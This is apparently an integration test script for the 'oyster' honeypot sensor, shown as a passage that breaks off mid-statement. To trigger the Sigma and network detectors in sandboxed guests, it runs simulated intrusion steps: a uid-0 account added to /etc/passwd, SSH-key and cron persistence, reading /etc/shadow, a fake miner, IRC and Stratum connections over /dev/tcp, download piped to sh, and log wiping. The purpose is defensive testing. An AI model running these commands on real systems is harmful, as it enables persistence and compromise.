#!/bin/bash
# The sensor (`oyster run`) end to end: the portal gives each attacker who
# logs in a guest of their own from a warm pool, sticky per source, spliced
# with the attacker's real address; data control from inside a guest (web
# reachable, management/other guest/LAN/host not, TCP cap with a drop event,
# mail into the sink and not to the real server); pcap per intrusion; a cold
# refusal when every guest holds a logged-in attacker; a connection flood;
# kill -9 and restart with the intrusion re-adopted; an idle guest made
# dormant; clean shutdown. (engagement.sh: the pool under pressure.)
# Scenarios over one sensor (lib.sh `scenario`): each fails on its own and
# the test goes on with the next; the end names every failed one, and the
# ones skipped because a scenario they build on failed.
OYSTER="$(realpath "$1")"
source "$(dirname "$0")/lib.sh"
PORTAL=203.0.113.1
A10=203.0.113.10
A11=203.0.113.11
A12=203.0.113.12
A13=203.0.113.13
# Per guest. .11's guest needs 3 (the bot's IRC, Stratum and download);
# the forged connection's sshd may answer after the forged address is gone,
# and that stray packet, picked up by conntrack mid-stream, counts as a new
# connection too: with a cap of 3 the download was then dropped and wget
# retried for 40 minutes. 5 leaves that slack.
TCP_CAP=5
EXTRA_CONFIG="[data_control]
tcp_connections_per_hour = $TCP_CAP
[sensor]
listen_address = \"$PORTAL\"
ports = [\"22:22\", \"23:23\"]
pool_size = 2
max_guests = 3
idle_timeout_s = 20
max_connections_per_source = 16
pcap_rotate_mib = 1
[forensics]
yara_rules = \"$WORK/yara\"
[detection]
sigma_rules = [\"$WORK/sigma\"]
[outputs]
jsonl_file = \"$WORK/outputs.jsonl\""
world_up
DATA_DIR="${OYSTER_DATA_DIR:-$(cd "$(dirname "$0")/../.." && pwd)}"
for a in $A11 $A12 $A13; do ip -n "$NS_ATTACKER" addr add "$a/24" dev "${tag}va"; done
EVENTS="$STATE_DIR/sensor/events.jsonl"
KEEP_ON_FAILURE="$EVENTS $WORK/sensor.log"

# The internet: a web server with a file to download, and a mail server
# that must never hear from a guest.
mkdir -p "$WORK/www"
# Big enough that the guest's pcap (rotated at 1 MiB) takes several files.
head -c 1500000 /dev/urandom > "$WORK/www/tool.bin"
# A script fetched, run with sh and deleted: only the guest kernel's kept
# copy is left of it for the analysis.
printf '#!/bin/sh\necho run-sh-ran\n# %s\n' "$RANDOM$RANDOM" > "$WORK/www/run.sh"
# The operator's Sigma rules, beside the shipped ones: one of their own,
# and one with an aggregation, which the sensor must name as not loaded.
mkdir -p "$WORK/sigma"
cat >"$WORK/sigma/operator_marker.yml" <<EOF
title: Operator's marker command
id: 6a0f3c1e-6d54-4c53-9d7e-2f5a1d0c0b01
tags: [attack.execution, attack.t1059.004]
logsource: {product: linux, category: process_creation}
detection:
    selection:
        CommandLine|contains: oyster-sigma-marker
    condition: selection
level: low
EOF
cat >"$WORK/sigma/operator_aggregation.yml" <<EOF
title: Many execs
logsource: {product: linux, category: process_creation}
detection:
    selection:
        Image|endswith: /sh
    condition: selection | count() > 10
EOF
# The YARA rules: the shipped ones and one written for that file.
mkdir -p "$WORK/yara"
cp "$DATA_DIR"/rules/yara/*.yar "$WORK/yara/"
cat >"$WORK/yara/test_download.yar" <<EOF
rule test_download_tool_bin
{
    meta:
        description = "the file the test's web server serves"
        severity = "critical"
    strings:
        \$head = { $(head -c 32 "$WORK/www/tool.bin" | od -An -tx1 | tr -s ' \n' ' ') }
    condition:
        \$head at 0
}
EOF
ip netns exec "$NS_INTERNET" python3 -m http.server --bind "$WEB_IP" --directory "$WORK/www" 80 \
	>"$WORK/web.log" 2>&1 &
ip netns exec "$NS_INTERNET" nc -lk -s "$SMTP_IP" -p 25 >"$WORK/real-smtp.txt" 2>&1 &
# A mining pool and an IRC server, for a bot on .11's guest (nDPI names both).
ip netns exec "$NS_INTERNET" python3 "$DATA_DIR/tests/integration/world_servers.py" stratum "$WEB_IP" 3333 \
	>"$WORK/stratum.log" 2>&1 &
ip netns exec "$NS_INTERNET" python3 "$DATA_DIR/tests/integration/world_servers.py" irc "$WEB_IP" 6667 \
	>"$WORK/irc.log" 2>&1 &

count_ready() { events | jq -c 'select(.type=="guest_ready")' | wc -l; }

# Milliseconds from connect() to the SSH banner, from a source address.
banner_ms() {
	ip netns exec "$NS_ATTACKER" python3 - "$1" "$PORTAL" <<'PY' || echo -1
import socket, sys, time
t = time.monotonic()
s = socket.create_connection((sys.argv[2], 22), timeout=120, source_address=(sys.argv[1], 0))
b = s.recv(256)
print(int((time.monotonic() - t) * 1000) if b.startswith(b"SSH-") else -1)
PY
}

# What a guest's root reaches: each host:port given, REACHED or blocked.
probe='for t in "$@"; do if timeout 4 bash -c "exec 3<>/dev/tcp/${t%:*}/${t#*:}" 2>/dev/null; then echo "REACHED $t"; else echo "blocked $t"; fi; done'
# The session a command line belongs to, once the store has it (up to 10 s).
session_of_command() {
	local sid=""
	for _ in $(seq 20); do
		sensor_oyster store sync >/dev/null
		sid=$(sqlite3 "$STATE_DIR/store.sqlite" \
			"SELECT session_id FROM commands WHERE command_line = '$1' AND session_id IS NOT NULL")
		[ -n "$sid" ] && break
		sleep 0.5
	done
	echo "$sid"
}
api() { nsenter --net="/run/netns/$NS_SENSOR" curl -sS -o "$WORK/api.out" -w '%{http_code}' "$@"; }
# The web UI checks' screenshots (build/test-artefacts/web-ui).
shots="$(cd "$(dirname "$OYSTER")/../.." && pwd)/test-artefacts/web-ui"
mkdir -p "$shots"
DB="$STATE_DIR/store.sqlite"
# Whether a process has ended (a zombie the test's shell has not reaped
# yet has).
gone() { ! kill -0 "$1" 2>/dev/null || [ "$(awk '{print $3}' "/proc/$1/stat" 2>/dev/null)" = Z ]; }

# The fixture every scenario below shares: the sensor with its pool of 2.
start_sensor
log "sensor started (pid $SENSOR_PID); waiting for the pool of 2"
wait_for 300 'select(.type=="guest_ready")' "the first pool guest"
deadline=$((SECONDS + 300))
until [ "$(count_ready)" -ge 2 ]; do
	[ $SECONDS -lt $deadline ] || { tail -n 30 "$WORK/sensor.log" >&2; fail "pool never reached 2 guests"; }
	sleep 1
done
ip netns exec "$NS_SENSOR" nft list table inet oyster >/dev/null || fail "no containment table"

# --- warm pool: the first two sources get a banner without a boot.
two_sources_get_two_guests() {
	ms10=$(banner_ms $A10)
	ms11=$(banner_ms $A11)
	log "warm pool SYN->banner: $A10 ${ms10} ms, $A11 ${ms11} ms"
	[ "$ms10" -ge 0 ] && [ "$ms11" -ge 0 ] || fail "no banner from the pool"
	events | jq_any "select(.type==\"connection\" and .source_ip==\"$A10\" and .waits_for_boot==false)" ||
		fail "$A10 waited for a boot although the pool was full"

	# Long interactive sessions (with a pty, so `who` lists them) keep both
	# guests busy, never idle, until the test ends them.
	background_session $A10
	background_session $A11
	# Wait until both sessions are logged in (their ptys show in `who`).
	for src in $A10 $A11; do
		for _ in $(seq 30); do
			portal_ssh $src who | matches "($src)" && break
			sleep 1
		done
	done
	# An intrusion opens at a source's first login (a banner alone opens none).
	g10=$(events | jq -r "select(.type==\"intrusion_opened\" and .source_ip==\"$A10\") | .guest_id" | first_line)
	g11=$(events | jq -r "select(.type==\"intrusion_opened\" and .source_ip==\"$A11\") | .guest_id" | first_line)
	ip10=$(events | jq -r "select(.type==\"intrusion_opened\" and .source_ip==\"$A10\") | .guest_ip" | first_line)
	ip11=$(events | jq -r "select(.type==\"intrusion_opened\" and .source_ip==\"$A11\") | .guest_ip" | first_line)
	[ -n "$g10" ] && [ -n "$g11" ] && [ "$g10" != "$g11" ] || fail "two sources did not get two guests ($g10, $g11)"
	keep g10 g11 ip10 ip11
}
scenario two_sources_get_two_guests

# --- the guest sees the attacker's real address.
the_guest_sees_the_real_address() {
	out=$(portal_ssh $A10 'echo left-by-10 > /root/mark; ss -tnH state established "( sport = :22 )"; echo ---; who; echo ---; last -i -n 3 root')
	echo "$out" | sed 's/^/    guest10> /' >&2
	echo "$out" | sed -n '1,/^---$/p' | matches "$A10:" || fail "ss -tn in the guest does not show $A10"
	echo "$out" | sed -n '/^---$/,/^---$/p' | matches "($A10)" || fail "who in the guest does not show $A10"
	echo "$out" | sed -n '/^---$/,$p' | tail -n +2 | sed -n '/^---$/,$p' | matches "$A10" || fail "last does not show $A10"
	portal_ssh $A10 'journalctl -u ssh --no-pager | tail -n 20' | matches "Accepted password for root from $A10" ||
		fail "sshd's log does not show $A10"
	portal_ssh $A11 'cat /root/mark 2>/dev/null || echo none' | matches -x none || fail "$A11 sees $A10's file"
	portal_ssh $A10 'cat /root/mark' | matches -x left-by-10 || fail "$A10 came back to another guest"
}
scenario the_guest_sees_the_real_address after two_sources_get_two_guests

# --- login policy, applied in the guest by its PAM hook ([login] defaults:
# root's drawn password listed, root admitted after the drawn number of
# failures from one address). Every attempt is a login event with the
# address the guest saw.
login_policy() {
	wrong=(wrong-1 'wrong 2' "wr'ong\"3" wrong-4 wrong-5 wrong-6)
	for pw in "${wrong[@]:0:$ROOT_AFTER}"; do
		try_login $A11 "$pw" && fail "root logged in from $A11 with a wrong password ($pw)"
	done
	try_login $A11 anything-now || fail "root was not admitted after $ROOT_AFTER failures from $A11"
	wait_for 30 "select(.type==\"login\" and .remote_ip==\"$A11\" and .password==\"anything-now\" and .success
		and .reason==\"root after failures\")" "the login event of the policy's admission"
	# From then on that password is root's for this address, and no other is:
	# a detector trying a second random password meets a real server.
	try_login $A11 anything-else && fail "root took a second arbitrary password from $A11"
	try_login $A11 anything-now || fail "root's password for $A11 stopped working"
	# The guest's auth.log has those failures as pam_unix writes them (the hook
	# stands in for it): one "authentication failure" per connection, "check
	# pass; user unknown" for a user that does not exist, and at the end of a
	# connection how many more there were (three wrong passwords in one).
	try_login $A11 wrong-7 nosuchuser && fail "a user that does not exist logged in"
	printf '#!/bin/sh\necho wrong-8\n' >"$WORK/askpass"
	chmod 755 "$WORK/askpass"
	ip netns exec "$NS_ATTACKER" env SSH_ASKPASS="$WORK/askpass" SSH_ASKPASS_REQUIRE=force DISPLAY=none \
		ssh -q -b $A11 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=90 \
		-o PreferredAuthentications=password -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=3 \
		"root@$PORTAL" true </dev/null 2>/dev/null && fail "root logged in with wrong-8"
	more_failures="PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=$A11  user=root"
	for _ in $(seq 20); do
		authlog=$(portal_ssh $A11 'grep -a -e pam_unix -e "PAM [0-9]" /var/log/auth.log')
		echo "$authlog" | matches -F "$more_failures" && break
		sleep 1
	done
	echo "$authlog" | tail -n 8 | sed 's/^/    auth.log> /' >&2
	echo "$authlog" | matches -E "sshd\[[0-9]+\]: pam_unix\(sshd:auth\): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=$A11  user=root\$" ||
		fail "auth.log lacks pam_unix's failure line for root from $A11"
	echo "$authlog" | matches -F "pam_unix(sshd:auth): check pass; user unknown" || fail "auth.log lacks pam_unix's unknown-user line"
	echo "$authlog" | matches -E "pam_unix\(sshd:auth\): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=$A11 \$" ||
		fail "auth.log lacks pam_unix's failure line for an unknown user from $A11"
	echo "$authlog" | matches -F "$more_failures" ||
		fail "auth.log lacks pam_unix's count of a connection's further failures"
	for pw in "${wrong[@]:0:$ROOT_AFTER}"; do
		events | jq_any --arg pw "$pw" "select(.type==\"login\" and .remote_ip==\"$A11\" and .password==\$pw
			and .user==\"root\" and .service==\"sshd\" and (.success|not) and .remote_port > 1023)" ||
			fail "no rejected login event for password '$pw' from $A11"
	done
	events | jq_any "select(.type==\"login\" and .remote_ip==\"$A10\" and .password==\"$ROOT_PASSWORD\" and .success
		and .reason==\"listed account\")" || fail "no accepted login event for $A10"
	log "login policy: $ROOT_AFTER wrong passwords rejected, then admitted; all attempts recorded"
}
scenario login_policy after two_sources_get_two_guests

# --- data control from inside A10's guest.
data_control_and_the_intruders_changes() {
	out=$(portal_ssh $A10 "bash -c '$probe' probe $PORTAL:22 198.51.100.1:22 $ip11:22 $LAN_IP:8080")
	echo "$out" | sed 's/^/    guest10> /' >&2
	echo "$out" | matches REACHED && fail "the guest reached the sensor, another guest or the LAN"
	[ "$(echo "$out" | grep -c blocked)" = 4 ] || fail "probe did not run: $out"
	# What an intruder leaves on disk, for the file forensics at the end: a new
	# account line, a deleted file, SSH key persistence.
	portal_ssh $A10 'echo "toor:x:0:0::/root:/bin/bash" >> /etc/passwd; rm /etc/motd; mkdir -p /root/.ssh;
		echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOyster attacker@example" > /root/.ssh/authorized_keys; sync' ||
		fail "the intruder's changes did not run"
	out=$(portal_ssh $A10 "wget -q -O /root/tool.bin http://$WEB_IP/tool.bin && sha256sum /root/tool.bin")
	[ "${out%% *}" = "$(sha256sum "$WORK/www/tool.bin" | cut -d' ' -f1)" ] || fail "download from the web failed: $out"
	out=$(portal_ssh $A10 "wget -q -O /root/run.sh http://$WEB_IP/run.sh && sh /root/run.sh; rm -f /root/run.sh")
	[ "$out" = run-sh-ran ] || fail "the fetched script did not run: $out"
}
scenario data_control_and_the_intruders_changes after two_sources_get_two_guests

# Live capture: the download is on the sensor's bus while the guest runs,
# with the attacker's address, its exec and its connection to the web server.
live_capture() {
	for _ in $(seq 20); do
		jq_any "select(.type == \"capture\" and .source_ip == \"$A10\" and .event.type == \"connect\"
			and (.event.remote | tostring | contains(\"$WEB_IP\")))" "$EVENTS" && break
		sleep 0.5
	done
	jq_any "select(.type == \"capture\" and .source_ip == \"$A10\" and .event.type == \"exec\"
		and .event.argv[0] == \"wget\")" "$EVENTS" || fail "no live capture event for the wget exec"
	jq_any "select(.type == \"capture\" and .source_ip == \"$A10\" and .event.type == \"connect\"
		and (.event.remote | tostring | contains(\"$WEB_IP\")))" "$EVENTS" || fail "no live capture event for the connect"
	jq_any "select(.type == \"capture\" and .event.type == \"exec\" and (.event.argv[0] | test(\"systemd-journald|cron\")))" \
		"$EVENTS" && fail "the pool guest's boot was reported live"
	log "live capture: $(jq -c 'select(.type == "capture")' "$EVENTS" | wc -l) events so far"
}
scenario live_capture after data_control_and_the_intruders_changes

# --- sessions in the store while the intrusion is open: the wget ran in a
# connection of its own (no terminal), apart from the idle background
# session; a session typed at a terminal replays what the attacker saw.
# It also types what attackers type at web UIs on purpose.
sessions_in_the_store() {
	printf '%s\n' 'id -un; /bin/echo oyster-replay-check; /bin/echo "<script>alert(1)</script>" "<img src=x onerror=alert(1)>"' exit |
		ip netns exec "$NS_ATTACKER" sshpass -p "$ROOT_PASSWORD" ssh -q -tt -b $A10 \
			-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PreferredAuthentications=password \
			-o PubkeyAuthentication=no "root@$PORTAL" >"$WORK/typed-session.txt" 2>&1 || true
	matches oyster-replay-check <"$WORK/typed-session.txt" || fail "the typed session did not run: $(cat "$WORK/typed-session.txt")"
	typed_sid=$(session_of_command '/bin/echo oyster-replay-check')
	[ -n "$typed_sid" ] || fail "the typed command belongs to no session"
	sensor_oyster sessions --ip $A10 --has-download --json >"$WORK/dl-sessions.json" || fail "oyster sessions failed"
	wget_sid=$(sqlite3 "$STATE_DIR/store.sqlite" "SELECT session_id FROM commands WHERE command_line LIKE 'wget -q -O /root/tool.bin %'")
	[ -n "$wget_sid" ] || fail "the wget belongs to no session"
	jq -e --argjson id "$wget_sid" '[.sessions[] | select(.id == $id and .downloads >= 1 and .tty == null
		and .logged_in == 1 and .username == "root")] | length == 1' "$WORK/dl-sessions.json" >/dev/null ||
		fail "oyster sessions --has-download lacks the wget's session $wget_sid: $(cat "$WORK/dl-sessions.json")"
	[ "$wget_sid" != "$typed_sid" ] || fail "the wget and the typed commands were put in one session"
	sensor_oyster show "$wget_sid" --json >"$WORK/wget-show.json" || fail "oyster show failed"
	jq -e '[.timeline[] | select(.type == "capture" and .event.event.type == "exec" and .event.event.argv[0] == "wget")]
		| length == 1' "$WORK/wget-show.json" >/dev/null || fail "the wget session's timeline lacks the wget"
	jq -e '[.timeline[] | select(.type == "capture" and .event.event.type == "connect")] | length >= 1' \
		"$WORK/wget-show.json" >/dev/null || fail "the wget session's timeline lacks its connection out"
	sensor_oyster show "$typed_sid" >"$WORK/typed-show.txt" || fail "oyster show failed"
	matches -F '/bin/echo oyster-replay-check' <"$WORK/typed-show.txt" || fail "oyster show lacks the typed command"
	matches -F "login sshd root / $ROOT_PASSWORD: accepted" <"$WORK/typed-show.txt" || fail "oyster show lacks the login"
	sed 's/^/    show> /' "$WORK/typed-show.txt" >&2
	# The intrusion is open: replay decodes the guest's capture as it stands.
	sensor_oyster replay "$typed_sid" --instant >"$WORK/replay-live.txt" 2>/dev/null || fail "live replay failed"
	matches oyster-replay-check <"$WORK/replay-live.txt" || fail "the live replay lacks the session's output"
	log "sessions: wget in session $wget_sid, typed commands in session $typed_sid (replayed live)"
	keep typed_sid wget_sid
}
scenario sessions_in_the_store after data_control_and_the_intruders_changes

# Telnet (port 23: inetd, in.telnetd, login), as Mirai-style bots come:
# the login is PAM's "login" service, the session is the connection's with
# its terminal, the command is in it and the recording replays it.
telnet() {
	cat >"$WORK/telnet.py" <<'PY'
import socket, sys, telnetlib
src, host, user, password, command = sys.argv[1:6]
tn = telnetlib.Telnet()
tn.host, tn.port = host, 23
tn.sock = socket.create_connection((host, 23), timeout=60, source_address=(src, 0))
out = tn.read_until(b"login: ", 60)
tn.write(user.encode() + b"\r\n")
out += tn.read_until(b"Password: ", 30)
tn.write(password.encode() + b"\r\n")
out += tn.read_until(b"# ", 30)
tn.write(command.encode() + b"\r\n")
out += tn.read_until(b"telnet-done", 30)  # echoed as telnet-do''ne, printed as telnet-done
tn.write(b"exit\r\n")
out += tn.read_all()
sys.stdout.write(out.decode(errors="replace"))
PY
	ip netns exec "$NS_ATTACKER" python3 -W ignore "$WORK/telnet.py" $A10 "$PORTAL" root "$ROOT_PASSWORD" \
		"/bin/echo telnet-check-\$((6*7)); id -un; echo telnet-do''ne" >"$WORK/telnet-session.txt" 2>&1 ||
		fail "the telnet session failed: $(tail -c 2000 "$WORK/telnet-session.txt")"
	matches 'telnet-check-42' <"$WORK/telnet-session.txt" ||
		fail "the telnet session did not run its command: $(tail -c 2000 "$WORK/telnet-session.txt")"
	telnet_sid=$(session_of_command '/bin/echo telnet-check-42')
	[ -n "$telnet_sid" ] || fail "the telnet command belongs to no session"
	events | jq_any "select(.type==\"login\" and .source_ip==\"$A10\" and .service==\"login\" and .user==\"root\"
		and .success)" || fail "no accepted telnet login from $A10: $(events | jq -c 'select(.type=="login")' | tail -3)"
	[ "$(sqlite3 "$STATE_DIR/store.sqlite" "SELECT port, logged_in, username, tty IS NOT NULL FROM sessions
		WHERE id = $telnet_sid")" = "23|1|root|1" ] ||
		fail "the telnet session is not port 23, logged in as root, with a terminal: $(sqlite3 "$STATE_DIR/store.sqlite" \
			"SELECT * FROM sessions WHERE id = $telnet_sid")"
	sensor_oyster replay "$telnet_sid" --instant 2>/dev/null | matches telnet-check-42 ||
		fail "the telnet session's recording lacks its output"
	log "telnet: session $telnet_sid, logged in as root over PAM login, command and recording in it"
}
scenario telnet after two_sources_get_two_guests

# A guest's root gives its loopback another attacker's address and connects
# to its own sshd from that attacker's open connection's port: the accept,
# fork and sshd that follow are its own intrusion's, never that session's.
a_forged_address_stays_in_its_intrusion() {
	sensor_oyster store sync >/dev/null
	IFS='|' read -r bg_sid bg_port bg_cmds <<<"$(sqlite3 "$STATE_DIR/store.sqlite" "SELECT id, source_port, commands
		FROM sessions WHERE source_ip = '$A10' AND ended IS NULL AND port = 22 ORDER BY id LIMIT 1")"
	[ -n "$bg_port" ] || fail "no open session of $A10 to forge"
	portal_ssh $A11 "ip addr add $A10/32 dev lo && perl -MIO::Socket::INET -e '
		\$s = IO::Socket::INET->new(LocalAddr => \"$A10\", LocalPort => $bg_port, PeerAddr => \"$ip11\", PeerPort => 22)
			or die \"connect: \$!\";
		print scalar <\$s>; sleep 1'; ip addr del $A10/32 dev lo" >"$WORK/forged.txt" 2>&1
	matches '^SSH-' <"$WORK/forged.txt" || fail "the forged connection in $A11's guest got no banner: $(cat "$WORK/forged.txt")"
	wait_for 30 "select(.type==\"capture\" and .guest_id==\"$g11\" and .event.type==\"accept\"
		and .event.remote.address==\"$A10\" and .event.remote.port==$bg_port)" "the forged accept in $A11's guest"
	sleep 2
	sensor_oyster store sync >/dev/null
	[ "$(sqlite3 "$STATE_DIR/store.sqlite" "SELECT commands FROM sessions WHERE id = $bg_sid")" = "$bg_cmds" ] ||
		fail "commands of $A11's guest were counted in $A10's session $bg_sid"
	[ "$(sqlite3 "$STATE_DIR/store.sqlite" "SELECT COUNT(*) FROM events WHERE session_id = $bg_sid AND guest_id = '$g11'")" = 0 ] ||
		fail "events of $A11's guest landed in $A10's session $bg_sid"
	log "an address forged in $A11's guest stayed in its own intrusion ($A10's session $bg_sid untouched)"
}
scenario a_forged_address_stays_in_its_intrusion after two_sources_get_two_guests

# --- Sigma, live: a bot's session in .11's guest (run as `ssh host CMDS`,
# as bots run it) raises each rule it should, as an `alert` event within
# 5 s of the record that raised it, once per rule, in the store and the
# outputs. .11's guest is the one no later scenario reads the disk of.
sigma_alerts_live() {
	grep -qF "operator_aggregation.yml: condition" "$WORK/sensor.log" ||
		fail "the unsupported operator rule was not named at start"
	grep -qF "Sigma rules live" "$WORK/sensor.log" || fail "the sensor did not say how many Sigma rules it runs"
	portal_ssh $A11 "cd /tmp; cp /bin/sleep /tmp/.kswapd; (/tmp/.kswapd 20 &); sleep 1; rm -f /tmp/.kswapd
		mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBotKeyBotKeyBotKeyBotKeyBotKeyBotKey bot' >> /root/.ssh/authorized_keys
		(crontab -l 2>/dev/null; echo '*/5 * * * * /tmp/.kswapd') | crontab -
		useradd -m -G sudo sysadm; echo 'sysadm:Winter2026' | chpasswd
		cat /etc/shadow >/dev/null; chattr +i /root/.ssh/authorized_keys
		cp /bin/true /tmp/xmrig; /tmp/xmrig -o stratum+tcp://pool.invalid:3333 --donate-level 1
		exec 3<>/dev/tcp/$WEB_IP/6667 && printf 'NICK bot7\r\nUSER bot7 0 * :bot\r\n' >&3 &&
			read -t 3 l <&3 && read -t 3 l <&3 && printf 'JOIN #oyster\r\n' >&3 && read -t 3 l <&3
		printf 'QUIT\r\n' >&3; exec 3>&-
		exec 4<>/dev/tcp/$WEB_IP/3333 && printf '%s\n' '{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"4AbcWallet\",\"pass\":\"x\",\"agent\":\"XMRig/6.21.0\"}}' >&4 &&
			read -t 3 l <&4; exec 4>&-
		wget -q -O - http://$WEB_IP/none.sh 2>/dev/null | sh
		rm -rf /var/log/apt; history -c; echo oyster-sigma-marker" | matches oyster-sigma-marker ||
		fail "the bot session did not run"
	local expect=(
		"SSH authorized_keys written" "Crontab installed or edited" "Cron table or job file written"
		"Local account created" "Password changed" "Sudo rights granted" "Password hashes read"
		"Program run from a temporary directory" "Running program deleted" "System log files deleted"
		"Logs or history wiped by command" "File made immutable" "Cryptocurrency miner started"
		"Connection to an IRC port" "Connection to a mining pool port" "Reverse shell" "Download piped to a shell"
		"Root logged in" "Operator's marker command")
	local deadline=$((SECONDS + 10)) missing r
	while :; do
		missing=()
		for r in "${expect[@]}"; do
			jq_any --arg r "$r" --arg ip $A11 'select(.type == "alert" and .engine == "sigma" and .rule == $r
				and .intrusion_id != "" and .source_ip == $ip)' "$EVENTS" || missing+=("$r")
		done
		{ [ ${#missing[@]} = 0 ] || [ $SECONDS -ge $deadline ]; } && break
		sleep 1
	done
	[ ${#missing[@]} = 0 ] || fail "no live alert for: ${missing[*]}"
	# Live: each alert logged within 5 s of the guest's record (the guest's
	# clock follows the host's), each rule once for the guest.
	jq -s --arg ip $A11 '[.[] | select(.type == "alert" and .engine == "sigma" and .source_ip == $ip)
		| {rule, lag: ((.ts | sub("\\.[0-9]+Z$"; "Z") | fromdate) - (.event_time | sub("\\.[0-9]+Z$"; "Z") | fromdate))}]' \
		"$EVENTS" >"$WORK/sigma-lags.json"
	jq -e 'all(.[]; .lag <= 5 and .lag >= -2)' "$WORK/sigma-lags.json" >/dev/null ||
		fail "an alert came late: $(jq -c '[.[] | select(.lag > 5 or .lag < -2)]' "$WORK/sigma-lags.json")"
	jq -e '[.[].rule] | length == (unique | length)' "$WORK/sigma-lags.json" >/dev/null ||
		fail "a rule was raised twice for one guest"
	jq_any 'select(.type == "alert" and .rule == "Cryptocurrency miner started" and (.tags | index("attack.t1496"))
		and .severity == "critical" and (.detail | contains("stratum+tcp://")) and .category == "process_creation"
		and .seq > 0)' "$EVENTS" || fail "the miner's alert lacks its technique, severity, detail or record"
	# Nothing from the pool guests' boots: no alert without an intrusion.
	jq_any 'select(.type == "alert" and .engine == "sigma" and .intrusion_id == "")' "$EVENTS" &&
		fail "an alert without an intrusion (a pool guest's boot)"
	local n=0
	for _ in $(seq 10); do
		n=$(sqlite3 "$STATE_DIR/store.sqlite" "SELECT COUNT(*) FROM alerts a JOIN intrusions i ON i.id = a.intrusion_id
			WHERE a.engine = 'sigma' AND i.source_ip = '$A11' AND a.seq > 0 AND a.category != ''")
		[ "$n" -ge ${#expect[@]} ] && break
		sleep 1
	done
	[ "$n" -ge ${#expect[@]} ] || fail "the store holds $n of .11's ${#expect[@]} Sigma alerts"
	for _ in $(seq 10); do
		jq_any 'select(.type == "alert" and .rule == "Cryptocurrency miner started")' "$WORK/outputs.jsonl" && break
		sleep 1
	done
	jq_any 'select(.type == "alert" and .rule == "Cryptocurrency miner started")' "$WORK/outputs.jsonl" ||
		fail "the outputs did not get the miner's alert"
	# The CLI: the listing by technique, and the rule check an operator
	# runs before the sensor does (1: the aggregation rule is in error).
	sensor_oyster alerts --engine sigma --technique T1496 --json >"$WORK/alerts-t1496.json" || fail "oyster alerts failed"
	jq -e '.total == 2 and any(.alerts[]; .rule == "Cryptocurrency miner started")
		and all(.alerts[]; .rule == "Cryptocurrency miner started" or .rule == "Connection to a mining pool port")' \
		"$WORK/alerts-t1496.json" >/dev/null ||
		fail "oyster alerts --technique T1496: $(cat "$WORK/alerts-t1496.json")"
	local rc=0
	sensor_oyster rules check "$WORK/sigma" --list >"$WORK/rules-check.txt" 2>&1 || rc=$?
	[ "$rc" = 1 ] && grep -q "not loaded $WORK/sigma/operator_aggregation.yml: condition" "$WORK/rules-check.txt" &&
		grep -q "Operator's marker command" "$WORK/rules-check.txt" ||
		fail "oyster rules check (exit $rc): $(cat "$WORK/rules-check.txt")"
	sensor_oyster rules check "$DATA_DIR/rules/sigma" --json >"$WORK/rules-shipped.json" 2>"$WORK/rules-shipped.err" ||
		fail "the shipped rules do not all load: $(cat "$WORK/rules-shipped.json" "$WORK/rules-shipped.err")"
	jq -e '(.rules | length) >= 25 and (.problems | length) == 0' "$WORK/rules-shipped.json" >/dev/null ||
		fail "oyster rules check --json of the shipped rules"
	log "sigma: ${#expect[@]} rules raised live for $A11, lag min/max $(jq -c '[.[].lag] | [min, max]' "$WORK/sigma-lags.json") s"
}
scenario sigma_alerts_live after two_sources_get_two_guests

# nDPI over .11's tap: the bot's IRC and Stratum conversations (above) are
# named flows and raise the network rules, live, once each, in the store.
network_alerts_live() {
	grep -qF "nDPI names every guest's flows" "$WORK/sensor.log" || fail "the sensor did not start nDPI"
	grep -q "irc: JOIN #oyster" "$WORK/irc.log" || fail "the bot's IRC conversation did not happen: $(cat "$WORK/irc.log")"
	grep -q '"method": *"login"' "$WORK/stratum.log" || fail "the bot's Stratum login did not happen: $(cat "$WORK/stratum.log")"
	wait_for 15 "select(.type == \"flow\" and .application == \"IRC\" and .dst == \"$WEB_IP\" and .dst_port == 6667
		and .source_ip == \"$A11\" and .intrusion_id != \"\" and .guessed == false)" "the IRC flow"
	wait_for 15 "select(.type == \"flow\" and .application == \"Mining\" and .dst_port == 3333
		and .source_ip == \"$A11\" and .guessed == false)" "the Stratum flow"
	wait_for 15 "select(.type == \"flow\" and (.application | startswith(\"HTTP\")) and .dst_port == 80
		and .source_ip == \"$A11\")" "the download's HTTP flow"
	for r in network_irc network_mining_pool; do
		wait_for 10 "select(.type == \"alert\" and .engine == \"network\" and .rule_id == \"$r\"
			and .source_ip == \"$A11\" and .intrusion_id != \"\")" "the $r alert"
	done
	jq_any --arg ip $A11 'select(.type == "alert" and .rule_id == "network_mining_pool" and .source_ip == $ip
		and (.tags | index("attack.t1496")) and (.detail | contains(":3333")))' "$EVENTS" ||
		fail "the mining pool's alert lacks its technique or detail"
	# Live: within 5 s of the packet that named the flow; once per guest.
	jq -s --arg ip $A11 '[.[] | select(.type == "alert" and .engine == "network" and .source_ip == $ip)
		| {rule_id, lag: ((.ts | sub("\\.[0-9]+Z$"; "Z") | fromdate) - (.event_time | sub("\\.[0-9]+Z$"; "Z") | fromdate))}]' \
		"$EVENTS" >"$WORK/network-lags.json"
	jq -e 'all(.[]; .lag <= 5 and .lag >= -2) and ([.[].rule_id] | length == (unique | length))' \
		"$WORK/network-lags.json" >/dev/null || fail "network alerts late or repeated: $(cat "$WORK/network-lags.json")"
	local n=0
	for _ in $(seq 10); do
		n=$(sqlite3 "$STATE_DIR/store.sqlite" "SELECT COUNT(*) FROM alerts a JOIN intrusions i ON i.id = a.intrusion_id
			WHERE a.engine = 'network' AND i.source_ip = '$A11'")
		[ "$n" -ge 2 ] && break
		sleep 1
	done
	[ "$n" -ge 2 ] || fail "the store holds $n of .11's network alerts"
	sensor_oyster alerts --engine network --technique T1071 --json >"$WORK/alerts-t1071.json" || fail "oyster alerts failed"
	jq -e '.total >= 1 and all(.alerts[]; .rule_id == "network_irc")' "$WORK/alerts-t1071.json" >/dev/null ||
